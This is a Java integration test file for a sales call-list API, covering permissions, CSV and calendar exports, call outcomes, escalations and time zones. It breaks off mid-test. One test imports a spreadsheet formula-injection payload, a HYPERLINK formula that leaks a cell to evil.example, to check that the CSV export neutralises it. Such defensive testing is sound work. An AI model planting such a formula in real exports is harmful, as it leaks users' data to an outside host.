package org.rapport.calllists;

import jakarta.json.JsonObject;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.rapport.planning.BusinessCalendar;
import org.rapport.planning.BusinessCalendar.Workweek;
import org.rapport.planning.JollydayHolidays;
import org.rapport.testing.Api;
import org.rapport.testing.TestServer;
import org.rapport.testing.Csv;
import org.rapport.testing.Team;

import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/** Call lists and outcomes through the API, from the salesperson's and from an intruder's side. */
class CallListIT {

    private static final BusinessCalendar BERLIN = new BusinessCalendar(new JollydayHolidays(), Set.of());
    /** The {@code Team}'s salespeople in Berlin: Monday to Friday, DE-BE. */
    private static final Workweek TEAM_WORKWEEK = new Workweek("DE-BE", BusinessCalendar.MONDAY_TO_FRIDAY);
    /** A salesperson who works every day, in no holiday region. */
    private static final Workweek EVERY_DAY_ANYWHERE = new Workweek(null, java.util.EnumSet.allOf(java.time.DayOfWeek.class));

    Api api;
    Team team;
    LocalDate workday;

    @BeforeEach
    void team() {
        api = TestServer.api();
        team = new Team(api);
        workday = BERLIN.firstCallDay(LocalDate.now(ZoneId.of("Europe/Berlin")), "DE-BE", TEAM_WORKWEEK);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
    }

    @Test
    void aSalespersonSeesTheirListWithTalkingPointsAndNobodyElsesList() {
        JsonObject list = list(team.as(team.a), team.a);
        assertThat(list.getBoolean("working_day")).isTrue();
        JsonObject item = item(list, team.customerOfA);
        assertThat(item.getString("reason")).contains("no conversation on record");
        assertThat(item.getString("preferred_name")).isEqualTo("Alfred");
        assertThat(item.getString("company")).isEqualTo("Alpha GmbH");
        assertThat(item.getString("local_time_now")).endsWith("Europe/Berlin");
        assertThat(item.getJsonArray("last_touches")).isEmpty();

        assertThat(team.as(team.c).get(path(team.a)).status()).as("another team's salesperson").isEqualTo(403);
        assertThat(team.as(team.b).get(path(team.a)).status()).as("a colleague").isEqualTo(403);
        assertThat(team.as(team.m).get(path(team.a)).status()).as("the manager").isEqualTo(200);
        Api.Reply impossible = team.as(team.a).get("api/call-lists/" + team.a + "/2026-13-45");
        assertThat(impossible.status()).as(impossible.toString()).isEqualTo(400);
        assertThat(impossible.json().getString("detail")).isEqualTo("date: '2026-13-45' is not a date (YYYY-MM-DD).");
    }

    @Test
    void theListAlsoComesAsCsvAndAsICalendar() throws Exception {
        Api.Reply csv = team.as(team.a).get(path(team.a) + ".csv");
        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        assertThat(csv.contentType()).startsWith("text/csv");
        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
        assertThat(rows).anySatisfy(r -> {
            assertThat(r.get("customer")).isEqualTo(team.customerOfA);
            assertThat(r.get("company")).isEqualTo("Alpha GmbH");
            assertThat(r.get("position")).isEqualTo("1");
        });

        Api.Reply ics = team.as(team.a).get(path(team.a) + ".ics");
        assertThat(ics.status()).as(ics.toString()).isEqualTo(200);
        assertThat(ics.contentType()).startsWith("text/calendar");
        net.fortuna.ical4j.model.Calendar calendar = new net.fortuna.ical4j.data.CalendarBuilder()
                .build(new java.io.StringReader(ics.body()));
        List<net.fortuna.ical4j.model.component.VEvent> events = calendar.getComponents("VEVENT");
        assertThat(events).isNotEmpty();
        assertThat(events).anySatisfy(e -> assertThat(e.getProperty("SUMMARY").orElseThrow().getValue())
                .isEqualTo("Call Alpha GmbH (Alfred)"));
        assertThat(team.as(team.c).get(path(team.a) + ".ics").status()).isEqualTo(403);

        // calendar apps cannot log in: a secret, signed address per salesperson
        assertThat(team.as(team.c).get("api/call-lists/" + team.a + "/calendar-link").status()).isEqualTo(403);
        String feed = team.as(team.a).get("api/call-lists/" + team.a + "/calendar-link").json().getString("url");
        String feedPath = feed.substring(feed.indexOf("/calendar/") + 1);
        Api.Reply anonymous = api.anonymous().get(feedPath);
        assertThat(anonymous.status()).as(anonymous.toString()).isEqualTo(200);
        assertThat(anonymous.contentType()).startsWith("text/calendar");
        // the feed is the list of the salesperson's local today, call by call. This team works MON-FRI, so on a weekend
        // both are empty; CalendarFeedIT checks a feed in detail with salespeople who work every day.
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        JsonObject todays = team.as(team.a).get("api/call-lists/" + team.a + "/" + today).json();
        List<String> todaysCalls = todays.getJsonArray("items").getValuesAs(JsonObject.class).stream()
                .map(i -> "planned-touch-" + i.getInt("id") + "-" + today + "@rapport").toList();
        if (todays.getBoolean("working_day")) {
            assertThat(todaysCalls).as("Alpha GmbH's call is on today's list").isNotEmpty();
        }
        List<net.fortuna.ical4j.model.component.VEvent> fed = new net.fortuna.ical4j.data.CalendarBuilder()
                .build(new java.io.StringReader(anonymous.body())).getComponents("VEVENT");
        assertThat(fed).extracting(e -> e.getProperty("UID").orElseThrow().getValue()).containsExactlyElementsOf(todaysCalls);
        String altered = feedPath.replace(".ics", "").substring(0, feedPath.length() - 5)
                + (feedPath.charAt(feedPath.length() - 5) == 'a' ? "b" : "a") + ".ics";
        assertThat(api.anonymous().get(altered).status()).isEqualTo(404);
        assertThat(team.as(team.c).get(path(team.a) + ".csv").status()).isEqualTo(403);
    }

    @Test
    void aCustomerNamedLikeASpreadsheetFormulaComesOutOfTheCsvAsText() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
        String customer = team.tag + "-FORMULA";
        Api.Reply imported = api.asAdmin().postCsv("api/import/customers", Csv.lines(
                "external_id,company,preferred_name,phone,email,time_zone,owner",
                customer + ",\"" + formula.replace("\"", "\"\"") + "\",@SUM(1+1),+49 30 1234,formula@evil.example,Europe/Berlin,"
                        + team.a));
        assertThat(imported.status()).as(imported.toString()).isEqualTo(200);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        Api.Reply csv = team.as(team.a).get(path(team.a) + ".csv");
        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
        assertThat(rows).anySatisfy(r -> {
            assertThat(r.get("customer")).isEqualTo(customer);
            assertThat(r.get("company")).isEqualTo("'" + formula);
            assertThat(r.get("preferred_name")).isEqualTo("'@SUM(1+1)");
            assertThat(r.get("phone")).isEqualTo("'+49 30 1234");
        });
        assertThat(rows).allSatisfy(r -> r.forEach(cell ->
                assertThat(cell).as("no cell a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@")));
        assertThat(item(list(team.as(team.a), team.a), customer).getString("company"))
                .as("the JSON list shows the name as it is").isEqualTo(formula);
    }

    @Test
    void outcomesFollowTheRulesAndOnlyTheOwnerRecordsThem() {
        long id = item(list(team.as(team.a), team.a), team.customerOfA).getInt("id");
        assertThat(outcome(team.as(team.c), id, "{\"outcome\":\"REACHED\"}").status()).as("someone else's item").isEqualTo(403);
        assertThat(outcome(team.as(team.b), id, "{\"outcome\":\"REACHED\"}").status()).as("a colleague's item").isEqualTo(403);
        assertThat(outcome(team.as(team.a), id, "{\"outcome\":\"RESCHEDULED\"}").status()).isEqualTo(400);
        assertThat(outcome(team.as(team.a), id, "{\"outcome\":\"NOT_NEEDED\"}").status()).isEqualTo(400);
        assertThat(outcome(team.as(team.a), id, "{\"outcome\":\"MAYBE\"}").status()).isEqualTo(400);

        Api.Reply voicemail = outcome(team.as(team.a), id, "{\"outcome\":\"VOICEMAIL\",\"note\":\"left a message\"}");
        assertThat(voicemail.status()).as(voicemail.toString()).isEqualTo(200);
        assertThat(voicemail.json().getString("status")).isEqualTo("OPEN");
        assertThat(voicemail.json().getInt("tries")).isEqualTo(1);
        LocalDate back = LocalDate.parse(voicemail.json().getString("not_before_on"));
        assertThat(back).as("the second day the owner works (MON-FRI in DE-BE); the customer's region has no public holidays")
                .isEqualTo(BERLIN.callDayAfter(LocalDate.now(ZoneId.of("Europe/Berlin")), 2, null, TEAM_WORKWEEK));
        assertThat(list(team.as(team.a), team.a).getJsonArray("items").getValuesAs(JsonObject.class))
                .as("back in two business days, not tomorrow").noneMatch(i -> i.getInt("id") == id);

        assertThat(outcome(team.as(team.a), id, "{\"outcome\":\"NO_ANSWER\"}").json().getString("status")).isEqualTo("OPEN");
        JsonObject third = outcome(team.as(team.a), id, "{\"outcome\":\"NO_ANSWER\"}").json();
        assertThat(third.getString("status")).isEqualTo("ESCALATED");
        assertThat(team.as(team.m).get("api/planned-touches?status=ESCALATED").array().getValuesAs(JsonObject.class))
                .as("the manager sees it").anyMatch(t -> t.getInt("id") == id);
        org.rapport.testing.Eventually.soon().until(() -> org.rapport.testing.Mailbox.subjects("maria@example.com")
                .contains("Alpha GmbH: not reached after 3 tries"));
        Api.Reply refused = outcome(team.as(team.a), id, "{\"outcome\":\"REACHED\"}");
        assertThat(refused.status()).isEqualTo(409);
        assertThat(refused.json().getString("detail"))
                .isEqualTo("Planned touch " + id + " is ESCALATED: it waits for a manager's decision (take, reassign, reschedule or close).");
        assertThat(outcome(team.as(team.a), id, "{\"outcome\":\"RESCHEDULED\",\"reschedule_to\":\"" + workday + "\"}").status())
                .as("nor back to OPEN").isEqualTo(409);
        assertThat(team.as(team.m).get("api/planned-touches?status=ESCALATED").array().getValuesAs(JsonObject.class))
                .as("a refused outcome changed nothing").anyMatch(t -> t.getInt("id") == id && t.getInt("tries") == 3);
    }

    /**
     * The follow-up after a resolved problem is a call; when nobody answers it after the last try, the customer gets the
     * {@code problem-follow-up} email from their salesperson (once), besides the manager's alert.
     */
    @Test
    void aProblemFollowUpNobodyAnswersGoesToTheCustomerInWriting() throws Exception {
        String seller = Csv.unique("unr");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,email,time_zone,working_days",
                seller + ",Una Seller," + seller.toLowerCase() + "@sales.example,Europe/Berlin,MON-SUN"))
                .json().getJsonArray("rejected")).isEmpty();
        String customer = seller + "-1";
        String courtesy = seller + "-2";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,preferred_name,email,time_zone,owner,tier",
                customer + ",Unreached Ltd,Uma,uma@unreached.example,Europe/Berlin," + seller + ",TOP10",
                courtesy + ",Courtesy Ltd,Cora,cora@courtesy.example,Europe/Berlin," + seller + ",TOP10"))
                .json().getInt("created")).isEqualTo(2);
        java.time.Instant now = java.time.Instant.now();
        assertThat(api.asAdmin().postJson("api/problems", "{\"external_id\":\"" + Csv.unique("unr-p") + "\",\"customer\":\""
                + customer + "\",\"opened_at\":\"" + now.minus(java.time.Duration.ofDays(3)) + "\",\"resolved_at\":\""
                + now.minus(java.time.Duration.ofDays(2)) + "\",\"summary\":\"Printer jams\",\"resolution\":\"Replaced the roller\"}")
                .status()).isEqualTo(201);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        for (String[] call : new String[][] {{customer, "PROBLEM_FOLLOW_UP"}, {courtesy, "COURTESY"}}) {
            long id = openTouch(call[0], call[1]);
            assertThat(outcome(api.asAdmin(), id, "{\"outcome\":\"NO_ANSWER\"}").json().getString("status")).isEqualTo("OPEN");
            assertThat(outcome(api.asAdmin(), id, "{\"outcome\":\"VOICEMAIL\"}").json().getString("status")).isEqualTo("OPEN");
            assertThat(followUpEmails(call[0])).as("not before the last try").isEmpty();
            assertThat(outcome(api.asAdmin(), id, "{\"outcome\":\"NO_ANSWER\"}").json().getString("status")).isEqualTo("ESCALATED");
        }

        List<JsonObject> emails = followUpEmails(customer);
        assertThat(emails).hasSize(1);
        assertThat(emails.get(0).getString("purpose")).isEqualTo("CHECK_IN");
        assertThat(emails.get(0).getString("customer")).isEqualTo(customer);
        assertThat(java.time.Instant.parse(emails.get(0).getString("not_before"))).as("inside the customer's send window")
                .isAfterOrEqualTo(now.truncatedTo(java.time.temporal.ChronoUnit.SECONDS));
        try (java.sql.Connection db = java.sql.DriverManager.getConnection(System.getenv("RAPPORT_DB_URL"),
                System.getenv("RAPPORT_DB_USER"), System.getenv("RAPPORT_DB_PASSWORD"));
             java.sql.PreparedStatement query = db.prepareStatement("SELECT fields, send_window FROM outbox_message WHERE id = ?")) {
            query.setLong(1, emails.get(0).getJsonNumber("id").longValue());
            try (java.sql.ResultSet rs = query.executeQuery()) {
                assertThat(rs.next()).isTrue();
                assertThat(rs.getString(1)).as("what it says: the problem and what was done")
                        .contains("Printer jams").contains("Replaced the roller");
                assertThat(rs.getBoolean(2)).as("its retries stay inside the customer's send window too").isTrue();
            }
        }
        assertThat(followUpEmails(courtesy)).as("an unanswered courtesy call is no problem follow-up").isEmpty();
    }

    /**
     * The problem-follow-up email is outreach (purpose CHECK_IN) like the planner's problem check-in email, and is held to
     * the same cap contact.max_emails_per_7_days: a customer at the cap gets no email, the escalated call still waits.
     */
    @Test
    void aProblemFollowUpEmailKeepsToTheCapOnOutreachEmail() {
        String customer = customerWithAResolvedProblem("cap", "Capped Ltd", "Printer jams");
        long id = openTouch(customer, "PROBLEM_FOLLOW_UP");
        withRules(rules -> jakarta.json.Json.createObjectBuilder(rules).add("contact_policy",
                jakarta.json.Json.createObjectBuilder(rules.getJsonObject("contact_policy")).add("max_emails_per_7_days", 0)).build(), () -> {
            for (String outcome : List.of("NO_ANSWER", "VOICEMAIL", "NO_ANSWER")) {
                assertThat(outcome(api.asAdmin(), id, "{\"outcome\":\"" + outcome + "\"}").status()).isEqualTo(200);
            }
        });
        assertThat(status(id)).isEqualTo("ESCALATED");
        assertThat(followUpEmails(customer)).as("at the cap: no email").isEmpty();
    }

    /**
     * An escalated follow-up call blocks outreach email (the send-time problemPending); the customer reached by a call
     * logged afterwards closes it, so the manager no longer has it to decide and email may go again.
     */
    @Test
    void reachingTheCustomerClosesAnEscalatedFollowUpAndOutreachEmailGoesAgain() {
        String customer = customerWithAResolvedProblem("esc", "Escalated Ltd", "Wrong size");
        long id = openTouch(customer, "PROBLEM_FOLLOW_UP");
        for (int i = 1; i <= 3; i++) {
            assertThat(outcome(api.asAdmin(), id, "{\"outcome\":\"NO_ANSWER\"}").json().getString("status"))
                    .isEqualTo(i < 3 ? "OPEN" : "ESCALATED");
        }
        assertThat(thankYouNow(customer, "SUPPRESSED").getString("last_error")).as("blocked while the call waits for a manager")
                .contains("only problem-related");

        Api.Reply call = api.asAdmin().postJson("api/touches", "{\"customer\":\"" + customer
                + "\",\"kind\":\"CALL\",\"outcome\":\"REACHED\",\"note\":\"Called us back, all fine\"}");
        assertThat(call.status()).as(call.toString()).isIn(200, 201);
        JsonObject closed = api.asAdmin().get("api/planned-touches?customer=" + customer).array().getValuesAs(JsonObject.class)
                .stream().filter(t -> t.getInt("id") == id).findFirst().orElseThrow();
        assertThat(closed.getString("status")).as(closed.toString()).isEqualTo("DONE");
        assertThat(closed.getString("outcome")).isEqualTo("REACHED");
        assertThat(status(id)).as("off the manager's list").isEqualTo("not ESCALATED");
        thankYouNow(customer, "SENT");
    }

    /**
     * A TOP10 customer of a new salesperson who works every day, with a problem resolved two days ago: after a plan run,
     * its follow-up call is open.
     */
    private String customerWithAResolvedProblem(String prefix, String company, String summary) {
        String seller = Csv.unique(prefix);
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,email,time_zone,working_days",
                seller + ",Sam Seller," + seller.toLowerCase() + "@sales.example,Europe/Berlin,MON-SUN"))
                .json().getJsonArray("rejected")).isEmpty();
        String customer = seller + "-1";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,preferred_name,email,time_zone,owner,tier",
                customer + "," + company + ",Alex," + customer.toLowerCase() + "@" + prefix + ".example,Europe/Berlin," + seller + ",TOP10"))
                .json().getInt("created")).isEqualTo(1);
        java.time.Instant now = java.time.Instant.now();
        assertThat(api.asAdmin().postJson("api/problems", "{\"external_id\":\"" + Csv.unique(prefix + "-p") + "\",\"customer\":\""
                + customer + "\",\"opened_at\":\"" + now.minus(java.time.Duration.ofDays(3)) + "\",\"resolved_at\":\""
                + now.minus(java.time.Duration.ofDays(2)) + "\",\"summary\":\"" + summary + "\",\"resolution\":\"Done\"}")
                .status()).isEqualTo(201);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        return customer;
    }

    /**
     * The problem-follow-up email goes once per problem: the call that escalates again after the manager put it back on
     * the list, and a plan run after that, write nothing more.
     */
    @Test
    void theProblemFollowUpEmailGoesOncePerProblemHoweverOftenTheCallEscalates() {
        String customer = customerWithAResolvedProblem("once", "Once Ltd", "Printer jams");
        long id = openTouch(customer, "PROBLEM_FOLLOW_UP");
        unanswered(id);
        List<JsonObject> first = followUpEmails(customer);
        assertThat(first).as("the first escalation writes to the customer").hasSize(1);

        Api.Reply back = api.asAdmin().postJson("api/call-lists/items/" + id + "/reschedule", "{\"reschedule_to\":\""
                + LocalDate.now(ZoneId.of("Europe/Berlin")) + "\",\"note\":\"try once more\"}");
        assertThat(back.status()).as(back.toString()).isEqualTo(200);
        assertThat(back.json().getString("status")).isEqualTo("OPEN");
        unanswered(id);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        assertThat(followUpEmails(customer)).as("escalated twice and planned again: still the one email")
                .extracting(m -> m.getInt("id")).containsExactly(first.get(0).getInt("id"));
    }

    /** Three unanswered tries of an OPEN call, recorded by an admin: ESCALATED. */
    private void unanswered(long id) {
        for (int i = 1; i <= 3; i++) {
            Api.Reply tried = outcome(api.asAdmin(), id, "{\"outcome\":\"NO_ANSWER\"}");
            assertThat(tried.status()).as(tried.toString()).isEqualTo(200);
            assertThat(tried.json().getString("status")).isEqualTo(i < 3 ? "OPEN" : "ESCALATED");
        }
    }

    /**
     * While a problem is open only problem-related touches: an escalated courtesy call, which waits for the manager, is
     * withdrawn as an open one is, and leaves the manager's list.
     */
    @Test
    void aProblemOpenedWithdrawsAnEscalatedCourtesyCallFromTheManagersList() {
        long id = escalate(team.a, team.customerOfA);
        long other = escalate(team.b, team.customerOfB);
        String complaint = Csv.unique("complaint");
        Api.Reply opened = team.as(team.a).postJson("api/problems", "{\"external_id\":\"" + complaint + "\",\"customer\":\""
                + team.customerOfA + "\",\"opened_at\":\"" + java.time.Instant.now().minusSeconds(60) + "\",\"summary\":\"Angry call\"}");
        assertThat(opened.status()).as(opened.toString()).isEqualTo(201);

        JsonObject withdrawn = touch(team.customerOfA, id);
        assertThat(withdrawn.getString("status")).as(withdrawn.toString()).isEqualTo("CANCELLED");
        assertThat(withdrawn.getString("outcome")).isEqualTo("WITHDRAWN");
        assertThat(withdrawn.getString("note")).contains("problem " + complaint + " opened");
        assertThat(status(id)).as("off the escalations").isEqualTo("not ESCALATED");
        assertThat(list(team.as(team.m), team.m).getJsonArray("items").getValuesAs(JsonObject.class))
                .as("off the manager's list").noneMatch(i -> i.getInt("id") == id).anyMatch(i -> i.getInt("id") == other);
        assertThat(status(other)).as("another customer's escalated call still waits").isEqualTo("ESCALATED");
    }

    /**
     * A problem opened while the customer's call outcome is being recorded. The outcome locks the call, then the customer
     * row (its touch, the last two-way touch); the problem holds the customer row, and withdraws the calls only after its
     * commit. Both requests are lined up behind a shared lock on the customer row (as a delivery on the wire holds it),
     * the outcome first for one customer and the problem first for the other, and let go together: both complete,
     * neither deadlocks, and the reached call stays DONE, not withdrawn.
     */
    @Test
    void aProblemOpenedWhileACallOutcomeIsRecordedLetsBothComplete() throws Exception {
        raceOutcomeAndProblem(team.a, team.customerOfA, false);
        raceOutcomeAndProblem(team.b, team.customerOfB, true);
    }

    private void raceOutcomeAndProblem(String owner, String customer, boolean problemFirst) throws Exception {
        long id = item(list(team.as(owner), owner), customer).getInt("id");
        String complaint = Csv.unique("meanwhile");
        java.util.function.Supplier<Api.Reply> reach = () -> outcome(team.as(owner), id, "{\"outcome\":\"REACHED\",\"note\":\"all fine\"}");
        java.util.function.Supplier<Api.Reply> open = () -> team.as(owner).postJson("api/problems", "{\"external_id\":\"" + complaint
                + "\",\"customer\":\"" + customer + "\",\"opened_at\":\"" + java.time.Instant.now().minusSeconds(60)
                + "\",\"summary\":\"Invoice wrong\"}");
        java.util.concurrent.CompletableFuture<Api.Reply> first;
        java.util.concurrent.CompletableFuture<Api.Reply> second;
        try (java.sql.Connection db = db()) {
            db.setAutoCommit(false);
            // by primary key, as a delivery holds it (a share lock read through a covering secondary index would lock
            // only that index's entry)
            try (java.sql.PreparedStatement hold = db.prepareStatement("SELECT id FROM customer WHERE id = "
                    + "(SELECT id FROM customer WHERE external_id = ?) LOCK IN SHARE MODE")) {
                hold.setString(1, customer);
                try (java.sql.ResultSet held = hold.executeQuery()) {
                    assertThat(held.next()).as("the customer row held").isTrue();
                }
            }
            first = java.util.concurrent.CompletableFuture.supplyAsync(problemFirst ? open : reach);
            Thread.sleep(1000);
            second = java.util.concurrent.CompletableFuture.supplyAsync(problemFirst ? reach : open);
            Thread.sleep(1000);
            assertThat(first).as("the first waits for the customer row").isNotDone();
            assertThat(second).as("the second waits behind it").isNotDone();
            db.commit();
        }
        Api.Reply outcome = (problemFirst ? second : first).get(60, java.util.concurrent.TimeUnit.SECONDS);
        Api.Reply problem = (problemFirst ? first : second).get(60, java.util.concurrent.TimeUnit.SECONDS);

        assertThat(outcome.status()).as(outcome.toString()).isEqualTo(200);
        assertThat(outcome.json().getString("status")).isEqualTo("DONE");
        assertThat(problem.status()).as(problem.toString()).isEqualTo(201);
        JsonObject call = touch(customer, id);
        assertThat(call.getString("status")).as(call.toString()).isEqualTo("DONE");
        assertThat(call.getString("outcome")).isEqualTo("REACHED");
        assertThat(api.asAdmin().get("api/planned-touches?customer=" + customer).array().getValuesAs(JsonObject.class))
                .as("no courtesy or re-sell call to make while the problem is open")
                .noneMatch(t -> List.of("OPEN", "ESCALATED").contains(t.getString("status"))
                        && List.of("COURTESY", "RESELL").contains(t.getString("rule")));
        JsonObject detail = api.asAdmin().get("api/customers/" + customer).json();
        assertThat(detail.getJsonArray("open_problems").getValuesAs(JsonObject.class))
                .anyMatch(p -> p.getString("external_id").equals(complaint));
        assertThat(detail.getJsonArray("recent_touches").getJsonObject(0).getString("outcome")).isEqualTo("REACHED");
        assertThat(detail.isNull("last_two_way_touch_at")).isFalse();
    }

    private JsonObject touch(String customer, long id) {
        return api.asAdmin().get("api/planned-touches?customer=" + customer).array().getValuesAs(JsonObject.class).stream()
                .filter(t -> t.getInt("id") == id).findFirst().orElseThrow(() -> new AssertionError("no planned touch " + id));
    }

    /** A thank-you note queued for now, once it has the status; the message. */
    private JsonObject thankYouNow(String customer, String status) {
        Api.Reply queued = api.asAdmin().postJson("api/outbox", "{\"template\":\"thank-you-anniversary\",\"customer\":\""
                + customer + "\",\"fields\":{\"years\":\"2\"}}");
        assertThat(queued.status()).as(queued.toString()).isEqualTo(201);
        int message = queued.json().getInt("id");
        org.rapport.testing.Eventually.soon().untilAsserted(() -> assertThat(api.asAdmin().get("api/outbox/" + message).json()
                .getString("status")).isEqualTo(status));
        return api.asAdmin().get("api/outbox/" + message).json();
    }

    private long openTouch(String customer, String rule) {
        return api.asAdmin().get("api/planned-touches?customer=" + customer + "&status=OPEN").array().getValuesAs(JsonObject.class)
                .stream().filter(t -> t.getString("rule").equals(rule)).findFirst()
                .orElseThrow(() -> new AssertionError("no open " + rule + " for " + customer)).getJsonNumber("id").longValue();
    }

    private List<JsonObject> followUpEmails(String customer) {
        return api.asAdmin().get("api/outbox?customer=" + customer + "&template=problem-follow-up").array()
                .getValuesAs(JsonObject.class);
    }

    @Test
    void reachingTheCustomerClosesTheItemAndRestartsTheCadence() {
        long id = item(list(team.as(team.b), team.b), team.customerOfB).getInt("id");
        Api.Reply reached = outcome(team.as(team.b), id, "{\"outcome\":\"REACHED\",\"note\":\"all fine, wants a visit in spring\"}");
        assertThat(reached.status()).as(reached.toString()).isEqualTo(200);
        assertThat(reached.json().getString("status")).isEqualTo("DONE");
        JsonObject customer = api.asAdmin().get("api/customers/" + team.customerOfB).json();
        assertThat(customer.isNull("last_two_way_touch_at")).isFalse();
        assertThat(customer.getJsonArray("recent_touches").getJsonObject(0).getString("outcome")).isEqualTo("REACHED");
        assertThat(list(team.as(team.b), team.b).getJsonArray("items").getValuesAs(JsonObject.class))
                .noneMatch(i -> i.getString("customer").equals(team.customerOfB));
    }

    @Test
    void theListIsCappedAtCapacityAndTheRestRollsOver() {
        String seller = Csv.unique("cap");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,email,time_zone,region,daily_capacity",
                seller + ",Cap Seller,cap@example.com,Europe/Berlin,DE-BE,2")).status()).isEqualTo(200);
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                seller + "-1,One,Europe/Berlin," + seller + ",STANDARD",
                seller + "-2,Two,Europe/Berlin," + seller + ",TOP10",
                seller + "-3,Three,Europe/Berlin," + seller + ",TOP100")).json().getInt("created")).isEqualTo(3);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        JsonObject list = list(api.asAdmin(), seller);
        assertThat(list.getInt("capacity")).isEqualTo(2);
        assertThat(list.getInt("overflow")).isEqualTo(1);
        List<String> customers = list.getJsonArray("items").getValuesAs(JsonObject.class).stream().map(i -> i.getString("customer")).toList();
        assertThat(customers).as("the top tiers first").containsExactly(seller + "-2", seller + "-3");

        // today's two calls are made; the one that did not fit is on the next working day's list, one point more urgent
        list.getJsonArray("items").getValuesAs(JsonObject.class).forEach(i ->
                assertThat(outcome(api.asAdmin(), i.getInt("id"), "{\"outcome\":\"REACHED\"}").status()).isEqualTo(200));
        LocalDate nextWorkday = BERLIN.plusBusinessDays(workday, 1, "DE-BE");
        Api.Reply next = api.asAdmin().get("api/call-lists/" + seller + "/" + nextWorkday);
        assertThat(next.status()).as(next.toString()).isEqualTo(200);
        JsonObject rolledOver = item(next.json(), seller + "-1");
        assertThat(next.json().getJsonArray("items")).hasSize(1);
        assertThat(next.json().getInt("overflow")).isZero();
        JsonObject planned = api.asAdmin().get("api/planned-touches?customer=" + seller + "-1").array().getValuesAs(JsonObject.class)
                .stream().filter(t -> t.getInt("id") == rolledOver.getInt("id")).findFirst().orElseThrow();
        LocalDate dueOn = LocalDate.parse(planned.getString("due_on"));
        assertThat(rolledOver.getInt("priority")).as("raised by a point per day since %s", dueOn)
                .isEqualTo(planned.getInt("priority") + (int) java.time.temporal.ChronoUnit.DAYS.between(dueOn, nextWorkday));
        assertThat(rolledOver.getInt("priority")).isGreaterThan(planned.getInt("priority"));
    }

    @Test
    void aStandardCourtesyCallThatFindsTheListFullBecomesAnEmailUnlessTheRuleIsOff() {
        String seller = fullList();
        JsonObject email = single(seller + "-1");
        assertThat(email.getString("channel")).isEqualTo("EMAIL");
        assertThat(email.getString("rule")).isEqualTo("COURTESY");
        assertThat(email.getString("reason")).endsWith("no room on the call list: an email instead");
        assertThat(api.asAdmin().get("api/outbox?customer=" + seller + "-1").array().getValuesAs(JsonObject.class))
                .singleElement().satisfies(m -> assertThat(m.getString("template")).isEqualTo("courtesy-check-in"));
        JsonObject list = list(api.asAdmin(), seller);
        assertThat(list.getInt("overflow")).isZero();
        assertThat(single(seller + "-2").getString("channel")).as("a TOP10 customer is called").isEqualTo("CALL");

        withRules(rules -> jakarta.json.Json.createObjectBuilder(rules).add("standard_email_when_no_capacity", false).build(), () -> {
            String other = fullList();
            assertThat(single(other + "-1").getString("channel")).as("the rule off: a call that rolls over").isEqualTo("CALL");
            assertThat(list(api.asAdmin(), other).getInt("overflow")).isEqualTo(1);
        });
    }

    @Test
    void aListIsFullOrNotOnTheSalespersonsOwnDateNotOnUtcs() {
        // a zone whose date is not UTC's at this moment: 14 hours ahead from 10:00 UTC, 12 hours behind before
        boolean ahead = java.time.ZonedDateTime.now(ZoneId.of("UTC")).getHour() >= 10;
        String zone = ahead ? "Etc/GMT-14" : "Etc/GMT+12";
        String seller = Csv.unique("tz");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines(
                "external_id,name,email,time_zone,daily_capacity,working_days",
                seller + ",Zoe Zone,zoe@example.com," + zone + ",2,MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        // two calls planned first: due on the salesperson's today (ahead), or on UTC's today, their tomorrow (behind)
        String firstZone = ahead ? zone : "UTC";
        String domain = seller.toLowerCase() + ".example";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,email,time_zone,owner,tier",
                seller + "-1,One,one@" + domain + "," + firstZone + "," + seller + ",TOP10",
                seller + "-2,Two,two@" + domain + "," + firstZone + "," + seller + ",TOP100")).json().getInt("created")).isEqualTo(2);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        // then a STANDARD customer in the salesperson's zone, due for a courtesy call today
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,email,time_zone,owner,tier",
                seller + "-3,Three,three@" + domain + "," + zone + "," + seller + ",STANDARD")).json().getInt("created")).isEqualTo(1);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        LocalDate sellersToday = LocalDate.now(ZoneId.of(zone));
        JsonObject today = listOn(api.asAdmin(), seller, sellersToday);
        if (ahead) {
            assertThat(single(seller + "-3").getString("channel")).as("today's list is full: an email instead").isEqualTo("EMAIL");
            assertThat(customers(today)).containsExactlyInAnyOrder(seller + "-1", seller + "-2");
        } else {
